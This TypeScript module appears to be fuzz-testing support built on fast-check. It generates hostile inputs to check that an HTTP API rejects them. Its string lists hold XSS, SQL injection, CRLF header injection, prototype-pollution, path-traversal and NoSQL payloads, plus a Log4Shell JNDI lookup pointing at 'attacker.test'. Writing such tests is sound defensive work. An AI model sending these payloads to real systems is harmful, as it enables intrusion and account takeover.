import fc from "fast-check";

const nested = (depth: number): unknown => (depth === 0 ? 1 : { a: nested(depth - 1) });
const polluting = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty"] as const;

/** Text that breaks what trusts it. */
const hostileText = fc.oneof(
  fc.constantFrom(
    "x".repeat(10_000),
    "é".repeat(5_000),
    "\u0000",
    "a\u0007b",
    "admin\u202etxt.exe",
    "<script>alert(1)</script>\u0001",
    "' OR 1=1 --\u0000",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's text, not a template
    "${jndi:ldap://attacker.test}\u0008",
    "a\r\nSet-Cookie: b=c",
    "",
    "   ",
  ),
  fc.string({ unit: "grapheme", minLength: 700, maxLength: 900 }),
  fc.integer({ min: 701, max: 20_000 }).map((length) => "漢".repeat(length)),
);

/** What no field of the API takes, whatever its schema. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText.filter((text) => text.length > 700 || /[\p{Cc}\u202e]/u.test(text) || text.trim() === ""),
  fc.constantFrom(null, true, false, -1, 1.5, 1e308, [], [[]], [null], { a: 1 }, {}, nested(8), nested(40)),
  fc.constantFrom(...polluting).map((key): unknown => JSON.parse(`{"${key}":{"isAdmin":true}}`)),
  fc.integer({ min: 1_001, max: 3_000 }).map((length) => Array.from({ length }, () => "x")),
  fc.dictionary(fc.string({ maxLength: 20 }), fc.boolean(), { minKeys: 1, maxKeys: 30 }),
);

/** A key no body takes. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "__proto__",
    "$where",
    "pk",
    "tenantId",
    "a/b~c",
    "x".repeat(5_000),
    "\u0000",
    "constructor",
    "toString",
    "é".repeat(300),
  ),
  fc.string({ unit: "grapheme", maxLength: 300 }).map((key) => `_${key}`),
);

/** Bodies that are no JSON, or more of it than is read. */
export const hostileBytes: fc.Arbitrary<Buffer> = fc.oneof(
  { weight: 1, arbitrary: fc.constant(Buffer.alloc(1_000_001, "[")) },
  { weight: 1, arbitrary: fc.constant(Buffer.from(JSON.stringify({ name: "x".repeat(1_000_001) }))) },
  {
    weight: 8,
    arbitrary: fc.uint8Array({ minLength: 0, maxLength: 60 }).map((bytes) => Buffer.from([0xff, ...bytes])),
  },
  {
    weight: 20,
    arbitrary: fc
      .constantFrom(
        "",
        "{",
        "[",
        '{"a":',
        "{'a':1}",
        "NaN",
        "undefined",
        '{"a":1}}',
        "\u0000",
        '"\\ud800',
        "[".repeat(20_000),
        '{"a":'.repeat(20_000),
      )
      .map((text) => Buffer.from(text)),
  },
  {
    weight: 20,
    arbitrary: fc
      .constantFrom("null", "true", "1", '"text"', "[]", "[1,2]", '["__proto__"]')
      .map((text) => Buffer.from(text)),
  },
);

export const hostileContentType = fc.constantFrom(
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/xml",
  "application/jsonp",
  "application/json5",
  "",
);

/** What may stand in an address where an id should: none of it is one. */
export const hostileSegment = fc
  .oneof(
    fc.constantFrom(
      "..",
      "%00",
      "%2e%2e%2f",
      "null",
      "__proto__",
      "vnd_",
      "x".repeat(5_000),
      "%E0%A4%A",
      "%F0%9F%92%A9",
      "*",
      "COMMUNE%23a",
    ),
    fc
      .string({ unit: "grapheme", minLength: 1, maxLength: 60 })
      .map((text) => encodeURIComponent(text.replaceAll(/\p{Cs}/gu, "x"))),
  )
  .filter((segment) => segment !== "" && !segment.includes("/"));

export const hostileQuery = fc.oneof(
  fc.constantFrom(
    "limit=0",
    "limit=101",
    "limit=-1",
    "limit=abc",
    "limit=1.5",
    "limit=1e999",
    "limit=5&limit=6",
    "cursor=",
    "cursor=x",
    "limit=%00",
    "constructor=x",
    "pk=COMMUNE%23a",
    "tenantId=a",
    `cursor=${"A".repeat(2_049)}`,
    "limit[]=5",
    "limit={}",
  ),
  fc
    .string({ unit: "grapheme", minLength: 1, maxLength: 80 })
    .map((text) => `cursor=${encodeURIComponent(text.replaceAll(/\p{Cs}/gu, "x"))}`),
);

export const hostileToken = fc.oneof(
  fc.constantFrom(
    "",
    "Bearer",
    "Bearer ",
    "Basic YTpi",
    "Bearer a.b.c",
    `Bearer ${"x".repeat(9_000)}`,
    "bearer null",
    "Bearer \u0000",
  ),
  fc.string({ unit: "grapheme", maxLength: 80 }).map((text) => `Bearer ${text}`),
);

export const hostileTag = fc.oneof(
  fc.constantFrom(
    "*",
    '"*"',
    '"0"',
    '"-1"',
    "1",
    'W/"1"',
    '"1", "2"',
    '"9999999999"',
    '"1e3"',
    '"__proto__"',
    "",
    '"1"x',
  ),
  fc.string({ unit: "grapheme", maxLength: 40 }).map((text) => `_${text}`),
);
